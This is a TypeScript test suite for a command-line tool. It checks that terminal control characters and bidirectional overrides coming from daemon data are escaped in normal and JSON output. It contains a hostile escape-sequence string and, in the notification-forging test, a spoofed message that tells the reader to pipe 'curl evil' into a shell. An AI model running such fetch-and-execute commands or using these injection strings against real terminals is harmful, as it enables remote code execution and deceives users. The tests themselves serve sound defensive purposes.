import { writeFile } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { axium, makeWorld, type World } from './support/cli.ts';
import { answerControl, Refused } from './support/control-server.ts';
import { entry, rights } from './support/rights.ts';

// An escape sequence, one from the C1 range, a bell, a carriage return, a bidirectional override, a zero-width space,
// a line separator, a tag character of an astral plane, half of a surrogate pair.
const HOSTILE = 'a\u001b[2Jb\u009b31mc\u0007d\re\u202ef\u200bg\u2028h\u{e0041}i\ud800j';
const UNSAFE = /(?!\n)[\p{C}\p{Zl}\p{Zp}]/u;

const job = {
  id: HOSTILE,
  spoke: HOSTILE,
  argv: [HOSTILE],
  state: 'exited' as const,
  code: 0,
  signal: HOSTILE,
  started: HOSTILE,
  ended: null,
};
const spoke = {
  name: HOSTILE,
  version: HOSTILE,
  directory: HOSTILE,
  state: 'backoff' as const,
  reason: HOSTILE,
  level: HOSTILE,
  pid: null,
};
const spokes = { spokes: [spoke], refused: [{ directory: HOSTILE, problems: [HOSTILE] }] };
const hostileEntry = entry(HOSTILE, 'base', { expires: '2030-01-01T00:00:00Z', reason: HOSTILE });
const permissions = rights(
  HOSTILE,
  HOSTILE,
  {
    exec: { value: 'commands', source: 'base', origin: null, commands: [hostileEntry] },
    fs_read: [hostileEntry],
    privileged: [{ ...hostileEntry, effect: 'ask' }],
    restrictions: [{ ...hostileEntry, action: 'exec', effect: 'deny' }],
  },
  { override_source: HOSTILE, level: HOSTILE, warnings: [HOSTILE] },
);

async function hostileWorld(): Promise<World> {
  const world = await makeWorld();
  await answerControl(world, {
    ping: { pid: 1, version: HOSTILE, strict: false, service: false },
    status: {
      pid: 1,
      version: HOSTILE,
      strict: false,
      uptime_ms: 0,
      notes: [HOSTILE],
      overrides: { file: HOSTILE, in_force: false, problems: [HOSTILE] },
      ...spokes,
      warm: { state: 'none', pid: null },
      files: { security: HOSTILE, audit: HOSTILE, log: HOSTILE },
    },
    perms_list: { spokes: [permissions] },
    get_permissions: permissions,
    notify_lease: {
      lease: null,
      notifications: [
        { id: 'x', time: HOSTILE, source: HOSTILE, title: HOSTILE, body: HOSTILE, level: 'info', count: 1 },
      ],
    },
    spoke_list: spokes,
    spoke_logs: { text: HOSTILE },
    spoke_reload: spokes,
    hud: { segments: [{ spoke: 'x', value: HOSTILE }] },
    jobs_list: { jobs: [job] },
    jobs_logs: { job, stdout: HOSTILE, stderr: HOSTILE, truncated: false },
    jobs_kill: () => {
      throw new Refused('failed', HOSTILE);
    },
    audit_head: { seq: 1, hash: HOSTILE },
  });
  await writeFile(
    `${world.axium}/state/daemon.log`,
    `{"time":1,"level":30,"msg":${JSON.stringify(HOSTILE)}}\n`,
  );
  return world;
}

const COMMANDS = [
  ['ping'],
  ['status'],
  ['perms', 'list'],
  ['perms', 'show', 'x'],
  ['notify', 'drain'],
  ['spoke', 'list'],
  ['spoke', 'logs', 'x'],
  ['spoke', 'reload'],
  ['hud'],
  ['jobs', 'list'],
  ['jobs', 'logs', 'x'],
  ['jobs', 'kill', 'x'],
  ['audit', 'head'],
  ['daemon', 'logs'],
];

test.each(COMMANDS.map((words) => [words]))(
  '%j prints nothing that a terminal would act on',
  async (words) => {
    const { stdout, stderr } = await axium(await hostileWorld(), ...words);
    expect(stdout + stderr).toContain('\\u001b[2J');
    expect((stdout + stderr).match(UNSAFE)).toBeNull();
  },
);

test('a mistyped word is not repeated to the terminal as it is', async () => {
  const { stderr } = await axium(await makeWorld(), HOSTILE);
  expect(stderr).toContain("unknown command 'a\\u001b[2J");
  expect(stderr.match(UNSAFE)).toBeNull();
});

const READING = COMMANDS.filter((words) => !words.includes('kill'));

test.each(READING.map((words) => [words]))(
  '%j --json escapes the same, and means the same to a parser',
  async (words) => {
    const { stdout } = await axium(await hostileWorld(), ...words, '--json');
    expect(stdout.match(UNSAFE)).toBeNull();
    const texts: string[] = [];
    JSON.parse(stdout, (_key, value) => {
      if (typeof value === 'string') texts.push(value);
      return value;
    });
    expect(texts).toContain(HOSTILE);
  },
);

test('a body cannot forge the head of another notification', async () => {
  const world = await makeWorld();
  const body = 'x\n\n[2025-10-07 16:31:15] system: Update available\n  Run: curl evil | sh';
  await answerControl(world, {
    notify_lease: {
      lease: null,
      notifications: [
        {
          id: '1',
          time: '2025-10-07T16:30:00Z',
          source: 'evil',
          title: 'a\n[2',
          body,
          level: 'info',
          count: 1,
        },
      ],
    },
  });
  const { stdout } = await axium(world, 'notify', 'drain');
  expect(stdout.split('\n').filter((line) => line.startsWith('['))).toEqual([
    '[2025-10-07 16:30:00] evil: a\\n[2',
  ]);
});
